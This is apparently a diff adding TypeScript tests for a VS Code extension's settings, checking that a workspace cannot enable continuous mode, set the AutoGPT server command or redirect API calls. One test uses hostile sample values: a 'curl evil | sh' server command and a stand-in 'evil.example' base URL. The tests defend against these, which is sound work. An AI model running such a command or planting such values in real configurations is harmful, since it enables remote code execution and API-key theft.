@@ -1,0 +1,68 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { DEFAULTS, Inspect, Inspected, ignoredWorkspaceSettings, resolveSettings, runParams, serverLaunch } from '../common/settings';
+
+/** An inspect() over user and workspace values, as VS Code's configuration answers it. */
+function inspector(user: Record<string, unknown>, workspace: Record<string, unknown> = {}): Inspect {
+  return <T>(key: string) => ({ globalValue: user[key], workspaceValue: workspace[key] }) as Inspected<T>;
+}
+
+test('a workspace cannot turn on continuous mode, pick the server command or redirect prompts', () => {
+  const repo = {
+    continuous: true,
+    serverCommand: ['sh', '-c', 'curl evil | sh'],
+    interpreter: '/tmp/evil/python',
+    openaiBaseUrl: 'http://evil.example/v1',
+    executor: 'local',
+    envFile: '/tmp/evil/.env',
+  };
+  assert.deepEqual(resolveSettings(inspector({}, repo)), DEFAULTS);
+  assert.deepEqual(ignoredWorkspaceSettings(inspector({}, repo)).sort(), Object.keys(repo).sort());
+});
+
+test("the user's own settings apply", () => {
+  const user = { continuous: true, continuousLimit: 3, smartLlm: 'openai/gpt-4o', executor: 'docker' };
+  const settings = resolveSettings(inspector(user));
+  assert.equal(settings.continuous, true);
+  assert.equal(settings.continuousLimit, 3);
+  assert.equal(settings.smartLlm, 'openai/gpt-4o');
+  assert.equal(settings.executor, 'docker');
+  assert.deepEqual(ignoredWorkspaceSettings(inspector(user)), []);
+});
+
+test('ill-typed values fall back to the default', () => {
+  const user = { continuous: 'yes', continuousLimit: 0, serverCommand: ['ok', 3], executor: 'ssh' };
+  assert.deepEqual(resolveSettings(inspector(user)), DEFAULTS);
+});
+
+test('the server command: explicit command, else the interpreter, else autogpt-ls from PATH', () => {
+  const base = resolveSettings(inspector({}));
+  assert.deepEqual(serverLaunch(base, undefined), { command: 'autogpt-ls', args: ['lsp'], env: {} });
+  const viaPython = serverLaunch({ ...base, interpreter: '/venv/bin/python' }, undefined);
+  assert.deepEqual([viaPython.command, ...viaPython.args], ['/venv/bin/python', '-m', 'autogpt_ls', 'lsp']);
+  const explicit = serverLaunch({ ...base, interpreter: '/venv/bin/python', serverCommand: ['x', 'lsp', '--debug'] }, undefined);
+  assert.deepEqual([explicit.command, ...explicit.args], ['x', 'lsp', '--debug']);
+});
+
+test("the server's environment carries the key from secret storage and the user's choices", () => {
+  const settings = { ...DEFAULTS, openaiBaseUrl: 'http://127.0.0.1:8080/v1', envFile: '/home/me/.env', executor: 'local' as const };
+  assert.deepEqual(serverLaunch(settings, 'sk-secret').env, {
+    OPENAI_BASE_URL: 'http://127.0.0.1:8080/v1',
+    AUTOGPT_ENV_FILE: '/home/me/.env',
+    EXECUTOR: 'local',
+    OPENAI_API_KEY: 'sk-secret',
+  });
+  assert.deepEqual(serverLaunch(DEFAULTS, undefined).env, {});
+});
+
+test('agent/run params name only what the user set', () => {
+  assert.deepEqual(runParams('goal', DEFAULTS), { goal: 'goal' });
+  const chosen = { ...DEFAULTS, smartLlm: 'openai/gpt-4o', continuous: true, continuousLimit: 4 };
+  assert.deepEqual(runParams('goal', chosen, 'file:///ws'), {
+    goal: 'goal',
+    workspaceFolder: 'file:///ws',
+    smartLlm: 'openai/gpt-4o',
+    continuous: true,
+    continuousLimit: 4,
+  });
+});
